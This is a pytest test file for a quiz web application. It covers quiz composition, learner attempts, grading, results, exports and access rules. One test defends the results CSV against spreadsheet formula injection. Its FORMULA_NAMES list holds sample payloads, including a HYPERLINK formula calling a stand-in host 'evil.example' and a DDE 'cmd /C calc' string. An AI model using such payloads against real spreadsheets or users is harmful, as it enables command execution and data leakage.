"""Instructor quizzes end to end: compose, share, take as two learners, grade, analyse, export."""

import csv
import datetime as dt
import html
import io
import re
import xml.etree.ElementTree as ET

import pytest
import sqlalchemy as sa

from quizapp.models import Attempt, GradeChange, Period, Quiz, QuizItem, Response, User, db
from quizapp.views.results import spreadsheet_cell
from tests.conftest import csrf_from, post_form
from tests.test_interchange import assert_gift_grammar, moodle_accepts, moodle_reads_gift

CUSTOM = [
    {"format": "multi", "prompt": "Which countries signed friendship agreements with the USSR?",
     "choices": "Egypt\nIraq\nSyria\nJordan", "answers": "Egypt\nIraq\nSyria", "explanation": "Not Jordan.",
     "points": "3"},
    {"format": "short", "prompt": "Name the Soviet representative at the UN in 1947.",
     "choices": "", "answers": "Andrei Gromyko\nGromyko", "explanation": "", "points": "2"},
    {"format": "year", "prompt": "In which year did Gorbachev come to power?", "choices": "", "answers": "1985",
     "explanation": "", "points": "1"},
    {"format": "truefalse", "prompt": "Sadat expelled Soviet advisors in 1972.", "choices": "", "answers": "True",
     "explanation": "", "points": "1"},
    {"format": "choice", "prompt": "Who chaired the Imperial Orthodox Palestine Society?",
     "choices": "Sergei Stepashin\nSergei Mironov\nMikhail Margelov", "answers": "Sergei Stepashin",
     "explanation": "A former prime minister.", "points": "1"},
]


@pytest.fixture
def instructor(make_learner):
    return make_learner("teacher@example.org", instructor=True)


def create_quiz(client, **settings):
    data = {"title": "The Soviet era", "description": "Answer alone.", "pass_mark": "60", "feedback": "submit",
            "max_attempts": "1", "shuffle_choices": "y", **settings}
    response = post_form(client, "/teach/quizzes/new", data)
    assert response.status_code == 302, response.get_data(as_text=True)[-800:]
    return int(re.search(r"/teach/quizzes/(\d+)", response.location).group(1))


def period_id(slug):
    return db.session.execute(sa.select(Period.id).filter_by(slug=slug)).scalar_one()


def compose(client, quiz_id, draw=15, custom=CUSTOM):
    page = f"/teach/quizzes/{quiz_id}"
    if draw:
        response = post_form(client, f"{page}/draw", {"period": str(period_id("1947-1966")), "kind": "any",
                                                      "count": str(draw), "seed": "42"}, page=page)
        assert response.status_code == 302
        assert f"Drew {draw} questions (seed 42)" in client.get(response.location).get_data(as_text=True)
    for item in custom:
        assert post_form(client, f"{page}/items", item, page=page).status_code == 302
    return db.session.get(Quiz, quiz_id)


def take(client, quiz, right=lambda item: True):
    """Start, answer every question (right or wrong as asked), submit; return the attempt."""
    landing = client.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    start = client.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing)})
    assert start.status_code == 302
    attempt_id = int(re.search(r"/attempts/(\d+)/", start.location).group(1))
    attempt = db.session.get(Attempt, attempt_id)
    items = {i.id: i for i in quiz.items}
    for n, item_id in enumerate(attempt.layout["order"], start=1):
        item = items[item_id]
        answer(client, attempt_id, n, item, right(item))
    page = client.get(f"/attempts/{attempt_id}/review").get_data(as_text=True)
    assert client.post(f"/attempts/{attempt_id}/submit", data={"csrf_token": csrf_from(page)}).status_code == 302
    db.session.expire_all()
    return db.session.get(Attempt, attempt_id)


def response_value(item, right):
    if item.format == "multi":
        return item.answers if right else [c for c in item.choices if c not in item.answers][:1]
    if right:
        return item.answers[0]
    if item.choices:
        return next(c for c in item.choices if c not in item.answers)
    return "1000" if item.format == "year" else "nobody"


def answer(client, attempt_id, n, item, right=True, value=None):
    url = f"/attempts/{attempt_id}/{n}"
    html = client.get(url).get_data(as_text=True)
    value = response_value(item, right) if value is None else value
    values = value if isinstance(value, list) else [value]
    data = {"csrf_token": csrf_from(html), **{f"response-{i}": v for i, v in enumerate(values)}}
    return client.post(url, data=data)


# Roles and ownership

def test_make_instructor_command_and_role_in_the_ui(runner, make_learner):
    user, client = make_learner("ada@example.org")
    assert client.get("/teach/").status_code == 403
    result = runner.invoke(args=["make-instructor", "Ada@example.org"])
    assert result.exit_code == 0 and "is now an instructor" in result.output
    assert client.get("/teach/").status_code == 200
    assert "(instructor)" in client.get("/").get_data(as_text=True)
    missing = runner.invoke(args=["make-instructor", "nobody@example.org"])
    assert missing.exit_code == 1 and "no account" in missing.output


def test_instructors_see_only_their_own_quizzes(instructor, make_learner):
    _, teacher = instructor
    quiz_id = create_quiz(teacher)
    compose(teacher, quiz_id, draw=2, custom=[])
    _, other = make_learner("other-teacher@example.org", instructor=True)
    assert "The Soviet era" not in other.get("/teach/").get_data(as_text=True)
    item = db.session.get(Quiz, quiz_id).items[0]
    for url in (f"/teach/quizzes/{quiz_id}", f"/teach/quizzes/{quiz_id}/results",
                f"/teach/quizzes/{quiz_id}/results.csv", f"/teach/quizzes/{quiz_id}/moodle.xml",
                f"/teach/quizzes/{quiz_id}/settings", f"/teach/quizzes/{quiz_id}/print"):
        assert other.get(url).status_code == 404, url
    html = other.get("/teach/").get_data(as_text=True)
    token = csrf_from(html)
    assert other.post(f"/teach/quizzes/{quiz_id}/items/{item.id}/delete", data={"csrf_token": token}).status_code == 404
    _, learner = make_learner()
    assert learner.get(f"/teach/quizzes/{quiz_id}").status_code == 403


# Composing

def test_compose_from_bank_and_own_questions_then_reorder_reweigh_remove(instructor):
    _, teacher = instructor
    quiz_id = create_quiz(teacher)
    quiz = compose(teacher, quiz_id)
    assert len(quiz.items) == 20
    drawn = [i for i in quiz.items if i.question_id]
    assert len(drawn) == 15 and {i.draw_seed for i in drawn} == {42}
    page = f"/teach/quizzes/{quiz_id}"
    first, second = quiz.items[0].id, quiz.items[1].id
    assert post_form(teacher, f"{page}/items/{first}/move/down", {}, page=page).status_code == 302
    db.session.expire_all()
    assert [i.id for i in db.session.get(Quiz, quiz_id).items][:2] == [second, first]
    assert post_form(teacher, f"{page}/items/{first}/points", {"points": "2.5"}, page=page).status_code == 302
    assert post_form(teacher, f"{page}/items/{second}/delete", {}, page=page).status_code == 302
    db.session.expire_all()
    quiz = db.session.get(Quiz, quiz_id)
    assert len(quiz.items) == 19 and quiz.items[0].points == 2.5
    assert [i.position for i in quiz.items] == list(range(19))


def test_same_seed_draws_the_same_questions(instructor):
    _, teacher = instructor
    a, b = create_quiz(teacher), create_quiz(teacher)
    qa, qb = compose(teacher, a, draw=8, custom=[]), compose(teacher, b, draw=8, custom=[])
    assert [i.question_id for i in qa.items] == [i.question_id for i in qb.items]


def test_hand_picking_from_the_searchable_bank(instructor):
    _, teacher = instructor
    quiz_id = create_quiz(teacher)
    html = teacher.get(f"/teach/quizzes/{quiz_id}/bank?q=Gromyko&kind=who").get_data(as_text=True)
    ids = re.findall(r'name="question" value="(\d+)"', html)
    assert ids and "Gromyko" in html
    response = teacher.post(f"/teach/quizzes/{quiz_id}/bank", data={"csrf_token": csrf_from(html), "question": ids})
    assert response.status_code == 302
    assert len(db.session.get(Quiz, quiz_id).items) == len(ids)


@pytest.mark.parametrize("item, message", [
    ({"format": "choice", "choices": "A\nB", "answers": "C"}, "Not among the choices"),
    ({"format": "choice", "choices": "A", "answers": "A"}, "at least two choices"),
    ({"format": "multi", "choices": "A\nB", "answers": "A\nB"}, "at least one wrong"),
    ({"format": "truefalse", "choices": "", "answers": "maybe"}, "Write True or False"),
    ({"format": "year", "choices": "", "answers": "nineteen"}, "as digits"),
    ({"format": "short", "choices": "", "answers": "x", "points": "0"}, "between 0.5 and 100"),
    ({"format": "bogus", "choices": "", "answers": "x"}, "Not a valid choice"),
])
def test_bad_custom_questions_get_a_message_not_a_500(instructor, item, message):
    _, teacher = instructor
    quiz_id = create_quiz(teacher)
    page = f"/teach/quizzes/{quiz_id}"
    response = post_form(teacher, f"{page}/items", {"prompt": "Q?", "points": "1", **item}, page=page)
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    assert not db.session.get(Quiz, quiz_id).items


def test_bad_settings_get_messages(instructor):
    _, teacher = instructor
    response = post_form(teacher, "/teach/quizzes/new", {
        "title": "", "pass_mark": "150", "feedback": "sometimes", "time_limit_minutes": "-1",
        "opens_at": "2026-03-05T10:00", "closes_at": "2026-03-01T10:00"})
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    for message in ("This field is required", "between 0 and 100", "Not a valid choice",
                    "between 1 and 600", "must close after it opens"):
        assert message in html
    assert db.session.execute(sa.select(sa.func.count()).select_from(Quiz)).scalar() == 0



def test_a_close_time_sent_without_the_open_time_is_checked_against_the_quiz_s(instructor):
    """The form leaves out the open time; the quiz has one: compared, not a 500 (naive against aware)."""
    _, teacher = instructor
    quiz_id = create_quiz(teacher, opens_at="2026-03-02T08:00", closes_at="2026-03-03T09:00")
    page = f"/teach/quizzes/{quiz_id}/settings"
    rules = {"title": "The Soviet era", "pass_mark": "60", "feedback": "submit"}
    early = post_form(teacher, page, {**rules, "closes_at": "2026-03-01T09:00"})
    assert early.status_code == 400 and "must close after it opens" in early.get_data(as_text=True)
    assert post_form(teacher, page, {**rules, "closes_at": "2026-03-04T09:00"}).status_code == 302
    quiz = db.session.get(Quiz, quiz_id)
    assert (quiz.opens_at, quiz.closes_at) == (dt.datetime(2026, 3, 2, 8, tzinfo=dt.UTC),
                                               dt.datetime(2026, 3, 4, 9, tzinfo=dt.UTC))


def test_control_characters_leave_instructor_texts_and_the_exports_stay_valid(instructor):
    _, teacher = instructor
    quiz_id = create_quiz(teacher, title="The\x01 Soviet\x1b era\x7f\u0085\r\n", description="One\x0b\r\ntwo\x08")
    item = {"format": "choice", "prompt": "Who\x07 acted <b>first</b>?\x1b[31m",
            "choices": "USSR\x0c\r\n%100%UK\r\n[plain]US", "answers": "USSR\x0c", "explanation": "Moscow\x02 {first}",
            "points": "1"}
    quiz = compose(teacher, quiz_id, draw=0, custom=[item, {**CUSTOM[1], "answers": "Gromyko\x1b\r\nA->B *"}])
    assert (quiz.title, quiz.description) == ("The Soviet era", "One\ntwo")
    first = quiz.items[0]
    assert (first.prompt, first.choices, first.answers, first.explanation) == (
        "Who acted <b>first</b>?[31m", ["USSR", "%100%UK", "[plain]US"], ["USSR"], "Moscow {first}")
    assert quiz.items[1].answers == ["Gromyko", "A->B *"]
    root = ET.fromstring(teacher.get(f"/teach/quizzes/{quiz_id}/moodle.xml").data)
    assert root.findtext("question/category/text") == "$course$/quizapp/The Soviet era"
    gift = teacher.get(f"/teach/quizzes/{quiz_id}/quiz.gift").get_data(as_text=True)
    assert_gift_grammar(gift, expected_questions=2)
    choice, short = (moodle_reads_gift(block) for block in gift.strip().split("\n\n"))
    assert choice["type"] == "multichoice" and choice["text"] == "Who acted &lt;b&gt;first&lt;/b&gt;?[31m"
    assert [(w, html.unescape(t)) for w, (t, _) in choice["answers"]] == [(1, "USSR"), (0, "%100%UK"), (0, "[plain]US")]
    assert short["type"] == "shortanswer" and [w for w, _ in short["answers"]] == [1, 1]
    assert [moodle_accepts(pattern, a) for (_, pattern), a in zip(short["answers"], ["gromyko", "A->B *"],
                                                                  strict=True)] == [True, True]
    assert not moodle_accepts(short["answers"][1][1], "A->B x")


# Taking, grading, results, exports

def test_whole_flow_two_learners_results_and_exports(instructor, make_learner):
    _, teacher = instructor
    quiz_id = create_quiz(teacher, max_attempts="2")
    quiz = compose(teacher, quiz_id)
    strong_user, strong = make_learner("strong@example.org")
    weak_user, weak = make_learner("weak@example.org")
    join = weak.post("/join", data={"csrf_token": csrf_from(weak.get("/join").get_data(as_text=True)),
                                    "code": quiz.join_code.lower()})
    assert join.location.endswith(f"/q/{quiz.join_code}")
    best = take(strong, quiz)
    worst = take(weak, quiz, right=lambda item: item.format not in ("multi", "short", "choice"))
    total = sum(i.points for i in quiz.items)
    assert (best.score, best.max_score) == (total, total)
    assert 0 < worst.score < total

    result = strong.get(f"/attempts/{best.id}/result").get_data(as_text=True)
    assert "passed" in result and "Answer:" in result  # feedback after submitting

    html = teacher.get(f"/teach/quizzes/{quiz_id}/results").get_data(as_text=True)
    assert "strong@example.org" in html and "weak@example.org" in html
    facilities = re.findall(r'class="facility">([\d.]+)<', html)
    assert "1.00" in facilities and "0.50" in facilities  # right by both, and right by one of two
    assert "×" in html  # wrong answers picked are listed
    assert 'class="flag"' not in html and "too few attempts to judge" in html  # two attempts prove nothing

    rows = list(csv.DictReader(io.StringIO(teacher.get(f"/teach/quizzes/{quiz_id}/results.csv")
                                            .get_data(as_text=True))))
    assert {r["email"] for r in rows} == {"strong@example.org", "weak@example.org"}
    strong_row = next(r for r in rows if r["email"] == "strong@example.org")
    assert float(strong_row["score"]) == total and strong_row["passed"] == "yes"
    assert len([k for k in strong_row if re.fullmatch(r"Q\d+", k)]) == len(quiz.items)

    xml = teacher.get(f"/teach/quizzes/{quiz_id}/moodle.xml")
    root = ET.fromstring(xml.data)
    questions = [q for q in root.findall("question") if q.get("type") != "category"]
    assert len(questions) == len(quiz.items)
    assert {q.get("type") for q in questions} >= {"multichoice", "truefalse", "shortanswer", "numerical"}
    gift = teacher.get(f"/teach/quizzes/{quiz_id}/quiz.gift").get_data(as_text=True)
    assert_gift_grammar(gift, expected_questions=len(quiz.items))
    printed = teacher.get(f"/teach/quizzes/{quiz_id}/print").get_data(as_text=True)
    assert "Answer key" in printed and quiz.items[0].prompt.replace("'", "&#39;")[:30] in printed


def test_instructor_override_is_recorded(instructor, make_learner):
    teacher_user, teacher = instructor
    quiz_id = create_quiz(teacher)
    quiz = compose(teacher, quiz_id, draw=0, custom=CUSTOM[1:2])
    _, learner = make_learner()
    attempt = take(learner, quiz, right=lambda item: False)
    response = attempt.responses[0]
    assert response.points == 0
    page = f"/teach/attempts/{attempt.id}"
    bad = post_form(teacher, f"/teach/responses/{response.id}/override", {"points": "5", "reason": "x"}, page=page)
    assert "Give points from 0 to 2" in teacher.get(bad.location).get_data(as_text=True)
    ok = post_form(teacher, f"/teach/responses/{response.id}/override",
                   {"points": "2", "reason": "Accepted the spelling 'Gromiko'."}, page=page)
    assert ok.status_code == 302
    db.session.expire_all()
    change = db.session.execute(sa.select(GradeChange)).scalar_one()
    assert (change.old_points, change.new_points, change.instructor_id) == (0, 2, teacher_user.id)
    assert db.session.get(Attempt, attempt.id).score == 2
    assert "Gromiko" in teacher.get(page).get_data(as_text=True)


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x=a@b.c","Click")', "+1+cmd|' /C calc'!A0@example.org",
                 "-2+3@example.org", "@SUM(1+1)@example.org", "\t=1+1@example.org", "\r=1+1@example.org"]


def test_results_csv_shows_formula_like_names_as_text(instructor):
    """A spreadsheet opening the results must not run what a learner typed as their account name."""
    owner, teacher = instructor
    quiz = Quiz(owner_id=owner.id, title="CSV", join_code="CSV23456", max_attempts=None)
    quiz.items = [QuizItem(position=0, format="year", prompt="When?", answers=["1948"], points=1)]
    db.session.add(quiz)
    at = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)
    for email in FORMULA_NAMES:
        user = User(email=email, password_hash="unused")
        db.session.add(user)
        db.session.flush()
        db.session.add(Attempt(quiz_id=quiz.id, user_id=user.id, number=1, started_at=at, submitted_at=at,
                               layout={"order": [], "choices": {}}, score=1, max_score=1))
    db.session.commit()
    rows = list(csv.reader(io.StringIO(teacher.get(f"/teach/quizzes/{quiz.id}/results.csv").get_data(as_text=True))))
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in FORMULA_NAMES)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?[\d.]+", c)]
    assert spreadsheet_cell("-1.5") == "-1.5" and spreadsheet_cell("-1+1") == "'-1+1"  # numbers stay numbers


# Cheating and access rules

def test_a_late_answer_is_not_saved_and_the_attempt_is_scored_on_time(instructor, make_learner, clock):
    _, teacher = instructor
    quiz_id = create_quiz(teacher, time_limit_minutes="10")
    quiz = compose(teacher, quiz_id, draw=0, custom=CUSTOM[2:4])
    _, learner = make_learner()
    landing = learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    start = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing)})
    attempt_id = int(re.search(r"/attempts/(\d+)/", start.location).group(1))
    attempt = db.session.get(Attempt, attempt_id)
    items = {i.id: i for i in quiz.items}
    first, second = (items[i] for i in attempt.layout["order"])
    clock.advance(minutes=5)
    assert answer(learner, attempt_id, 1, first).status_code == 302
    html = learner.get(f"/attempts/{attempt_id}/2").get_data(as_text=True)
    clock.advance(minutes=6)
    late = learner.post(f"/attempts/{attempt_id}/2", data={
        "csrf_token": csrf_from(html), "response-0": response_value(second, True)})
    assert late.location.endswith(f"/attempts/{attempt_id}/result")
    db.session.expire_all()
    attempt = db.session.get(Attempt, attempt_id)
    assert [r.item_id for r in attempt.responses] == [first.id]
    assert attempt.score == first.points
    assert attempt.submitted_at == attempt.deadline == attempt.started_at + dt.timedelta(minutes=10)


def test_submitting_twice_changes_nothing_and_attempts_run_out(instructor, make_learner):
    _, teacher = instructor
    quiz = compose(teacher, create_quiz(teacher), draw=0, custom=CUSTOM[2:3])
    _, learner = make_learner()
    attempt = take(learner, quiz)
    submitted = attempt.submitted_at
    page = learner.get(f"/attempts/{attempt.id}/result").get_data(as_text=True)
    learner.post(f"/attempts/{attempt.id}/submit", data={"csrf_token": csrf_from(page)})
    db.session.expire_all()
    assert db.session.get(Attempt, attempt.id).submitted_at == submitted
    item = quiz.items[0]
    changed = learner.post(f"/attempts/{attempt.id}/1", data={"csrf_token": csrf_from(page), "response-0": "1000"})
    assert changed.location.endswith("/result")
    assert db.session.get(Attempt, attempt.id).responses[0].answer == item.answers[0]
    landing = learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    assert "used all your attempts" in landing
    again = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing)})
    assert "used all your attempts" in learner.get(again.location).get_data(as_text=True)
    assert db.session.execute(sa.select(sa.func.count()).select_from(Attempt)).scalar() == 1


def test_a_closed_or_unopened_quiz_cannot_be_started(instructor, make_learner, clock):
    _, teacher = instructor
    quiz_id = create_quiz(teacher, opens_at="2026-03-03T09:00", closes_at="2026-03-04T09:00")
    quiz = compose(teacher, quiz_id, draw=0, custom=CUSTOM[2:3])
    _, learner = make_learner()
    assert "opens 03 Mar 2026 09:00" in learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    clock.advance(days=3)
    html = learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    assert "has closed" in html
    learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(html)})
    assert db.session.execute(sa.select(sa.func.count()).select_from(Attempt)).scalar() == 0


def test_forged_answers_and_other_learners_attempts(instructor, make_learner):
    _, teacher = instructor
    quiz = compose(teacher, create_quiz(teacher), draw=0, custom=CUSTOM[4:5] + CUSTOM[2:3])
    other = compose(teacher, create_quiz(teacher), draw=0, custom=CUSTOM[0:1])
    _, ada = make_learner()
    _, eve = make_learner()
    landing = ada.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    start = ada.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing)})
    attempt_id = int(re.search(r"/attempts/(\d+)/", start.location).group(1))
    html = ada.get(f"/attempts/{attempt_id}/1").get_data(as_text=True)
    token = csrf_from(html)
    assert ada.post(f"/attempts/{attempt_id}/3", data={"csrf_token": token, "response-0": "x"}).status_code == 404
    first = db.session.get(QuizItem, db.session.get(Attempt, attempt_id).layout["order"][0])
    forged = "Yasser Arafat" if first.format == "choice" else "19x8"
    assert ada.post(f"/attempts/{attempt_id}/1", data={"csrf_token": token, "response-0": forged}).status_code == 400
    assert other.items[0].id not in db.session.get(Attempt, attempt_id).layout["order"]
    assert db.session.execute(sa.select(sa.func.count()).select_from(Response)).scalar() == 0
    for url in (f"/attempts/{attempt_id}/1", f"/attempts/{attempt_id}/review", f"/attempts/{attempt_id}/result"):
        assert eve.get(url).status_code == 404
    eve_token = csrf_from(eve.get("/join").get_data(as_text=True))
    assert eve.post(f"/attempts/{attempt_id}/submit", data={"csrf_token": eve_token}).status_code == 404
    forged = eve.post(f"/attempts/{attempt_id}/1", data={"csrf_token": eve_token, "response-0": "1985"})
    assert forged.status_code == 404


def test_feedback_after_each_question_locks_the_answer(instructor, make_learner):
    _, teacher = instructor
    quiz = compose(teacher, create_quiz(teacher, feedback="each"), draw=0, custom=CUSTOM[2:4])
    _, learner = make_learner()
    landing = learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    start = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing)})
    attempt_id = int(re.search(r"/attempts/(\d+)/", start.location).group(1))
    item = db.session.get(QuizItem, db.session.get(Attempt, attempt_id).layout["order"][0])
    shown = answer(learner, attempt_id, 1, item, right=False)
    assert shown.status_code == 200 and 'id="feedback"' in shown.get_data(as_text=True)
    retry = answer(learner, attempt_id, 1, item, right=True)
    assert retry.status_code == 409
    assert db.session.execute(sa.select(Response)).scalar_one().points == 0


def test_feedback_after_close_and_never(instructor, make_learner, clock):
    _, teacher = instructor
    later = compose(teacher, create_quiz(teacher, feedback="close", closes_at="2026-03-03T09:00"), 0, CUSTOM[2:3])
    never = compose(teacher, create_quiz(teacher, feedback="never"), 0, CUSTOM[2:3])
    _, learner = make_learner()
    a = take(learner, later)
    b = take(learner, never)
    assert 'id="feedback-later"' in learner.get(f"/attempts/{a.id}/result").get_data(as_text=True)
    assert 'id="feedback-never"' in learner.get(f"/attempts/{b.id}/result").get_data(as_text=True)
    clock.advance(days=2)
    assert 'id="answers"' in learner.get(f"/attempts/{a.id}/result").get_data(as_text=True)


def test_an_interrupted_attempt_resumes_where_it_stopped(instructor, make_learner):
    _, teacher = instructor
    quiz = compose(teacher, create_quiz(teacher), draw=0, custom=CUSTOM[2:5])
    _, learner = make_learner()
    landing = learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    start = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing)})
    attempt_id = int(re.search(r"/attempts/(\d+)/", start.location).group(1))
    item = db.session.get(QuizItem, db.session.get(Attempt, attempt_id).layout["order"][0])
    answer(learner, attempt_id, 1, item)
    # the tab is closed; later the learner comes back through the join link
    landing = learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    assert "Resume your attempt" in landing
    resumed = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing)})
    assert resumed.location.endswith(f"/attempts/{attempt_id}/2")
    # the landing page's own form asks for that question in the response
    inline = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing), "then": "question"})
    assert inline.status_code == 200 and f'data-address="/attempts/{attempt_id}/2"' in inline.get_data(as_text=True)
    assert db.session.execute(sa.select(sa.func.count()).select_from(Attempt)).scalar() == 1


def test_unknown_join_code(make_learner):
    _, learner = make_learner()
    html = learner.get("/join").get_data(as_text=True)
    response = learner.post("/join", data={"csrf_token": csrf_from(html), "code": "NOPE1234"})
    assert response.status_code == 400 and "No quiz has this code" in response.get_data(as_text=True)
    assert learner.get("/q/NOPE1234").status_code == 404
    assert db.session.execute(sa.select(sa.func.count()).select_from(User)).scalar() == 1


def test_draws_take_one_question_per_fact_and_the_editor_warns_of_two_from_one_fact(instructor):
    from quizapp.models import Question

    _, client = instructor
    quiz_id = create_quiz(client)
    page = f"/teach/quizzes/{quiz_id}"
    post_form(client, f"{page}/draw", {"period": str(period_id("1947-1966")), "kind": "any", "count": "25",
                                       "seed": "5"})
    items = db.session.execute(sa.select(QuizItem).filter_by(quiz_id=quiz_id)).scalars().all()
    facts = [db.session.get(Question, i.question_id).fact_id for i in items]
    assert len(items) == 25 and len(set(facts)) == len(facts)
    assert "Same fact as question" not in client.get(page).get_data(as_text=True)
    # hand-pick a second question of the first item's fact: the editor says so on both
    first = db.session.get(Question, items[0].question_id)
    sibling = db.session.execute(sa.select(Question.id).where(Question.fact_id == first.fact_id,
                                                              Question.id != first.id)).scalars().first()
    post_form(client, f"{page}/bank", {"question": str(sibling)})
    text = client.get(page).get_data(as_text=True)
    assert text.count("Same fact as question") == 2 and "Same fact as question 26" in text


def test_random_draws_skip_questions_that_would_give_another_away(instructor):
    _, client = instructor
    pages = []
    for period in ("1947-1966", "palestinian-issue"):
        quiz_id = create_quiz(client)
        post_form(client, f"/teach/quizzes/{quiz_id}/draw", {"period": str(period_id(period)), "kind": "any",
                                                             "count": "20", "seed": "3"})
        pages.append(client.get(f"/teach/quizzes/{quiz_id}").get_data(as_text=True))
    assert all("Drew 20 questions" in p and "give each other away" not in p for p in pages)


def test_an_item_whose_wording_names_another_item_s_answer_is_flagged_on_both(instructor):
    _, client = instructor
    quiz_id = create_quiz(client)
    compose(client, quiz_id, draw=0, custom=CUSTOM[-1:])  # the answer: Sergei Stepashin
    named = {"format": "short", "prompt": "Which office had Sergei Stepashin held before?", "choices": "",
             "answers": "prime minister", "explanation": "", "points": "1"}
    page = f"/teach/quizzes/{quiz_id}"
    added = post_form(client, f"{page}/items", named, page=page)
    text = client.get(added.location).get_data(as_text=True)
    assert "Question 2: its wording names the answer of question 1. They may give each other away." in text
    assert "Its answer is named in question 2: they may give each other away." in text


def test_events_to_order_never_come_in_their_key_order_in_an_attempt_or_on_the_study_page():
    import random

    from quizapp import attempts, learning
    from quizapp.models import QuizItem

    key = ["a", "b", "c"]
    item = QuizItem(format="order", prompt="Order them.", choices=list(key), answers=list(key), points=1)
    shown = [attempts.shown_choices(random.Random(n), item, shuffle=False) for n in range(60)]
    assert all(s != key and sorted(s) == key for s in shown) and len({tuple(s) for s in shown}) > 1
    assert all(learning.shuffled_choices(key, key) != key for _ in range(60))


# One round trip a question fewer

def test_the_start_and_each_answer_come_back_with_the_next_question(instructor, make_learner):
    _, teacher = instructor
    quiz = compose(teacher, create_quiz(teacher, shuffle_questions=""), draw=0, custom=CUSTOM[2:5])
    user, learner = make_learner()
    landing = learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    assert '<input type="hidden" name="then" value="question">' in landing
    start = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing), "then": "question"})
    assert start.status_code == 200
    attempt = db.session.execute(sa.select(Attempt).filter_by(user_id=user.id)).scalar_one()
    page = start.get_data(as_text=True)
    items = {i.id: i for i in quiz.items}
    for n, item_id in enumerate(attempt.layout["order"], start=1):
        address = f"/attempts/{attempt.id}/{n}"
        # the page names its own address, and its form and links go there, whatever address it came from
        assert f'data-address="{address}"' in page and f'action="{address}"' in page
        assert html.escape(items[item_id].prompt) in page
        assert f'href="/attempts/{attempt.id}/1"' in page
        last = n == len(items)
        assert ('name="then" value="next"' in page) != last
        value = response_value(items[item_id], True)
        values = value if isinstance(value, list) else [value]
        data = {"csrf_token": csrf_from(page), **{f"response-{i}": v for i, v in enumerate(values)},
                **({} if last else {"then": "next"})}
        saved = learner.post(address, data=data)
        if last:  # the last answer goes on to the review page, as before
            assert saved.status_code == 302 and saved.location.endswith(f"/attempts/{attempt.id}/review")
        else:
            assert saved.status_code == 200
            page = saved.get_data(as_text=True)
    stored = db.session.execute(sa.select(Response).filter_by(attempt_id=attempt.id)).scalars().all()
    assert sorted(r.item_id for r in stored) == sorted(items)  # each answer stored once
    # "Save and review" from the middle goes to the review page even when the form asks for the next question
    first = items[attempt.layout["order"][0]]
    value = response_value(first, False)
    values = value if isinstance(value, list) else [value]
    finished = learner.post(f"/attempts/{attempt.id}/1", data={
        "csrf_token": csrf_from(page), **{f"response-{i}": v for i, v in enumerate(values)}, "go": "finish",
        "then": "next"})
    assert finished.status_code == 302 and finished.location.endswith(f"/attempts/{attempt.id}/review")


def test_resuming_an_attempt_whose_time_ran_out_shows_the_result(instructor, make_learner, clock):
    _, teacher = instructor
    quiz = compose(teacher, create_quiz(teacher, time_limit_minutes="10"), draw=0, custom=CUSTOM[2:4])
    _, learner = make_learner()
    landing = learner.get(f"/q/{quiz.join_code}").get_data(as_text=True)
    started = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing), "then": "question"})
    assert started.status_code == 200
    attempt = db.session.execute(sa.select(Attempt)).scalar_one()
    clock.advance(minutes=11)
    resumed = learner.post(f"/q/{quiz.join_code}/start", data={"csrf_token": csrf_from(landing), "then": "question"})
    assert resumed.status_code == 302 and resumed.location.endswith(f"/attempts/{attempt.id}/result")
    assert "Time is up" in learner.get(resumed.location).get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Attempt, attempt.id).submitted_at == attempt.started_at + dt.timedelta(minutes=10)
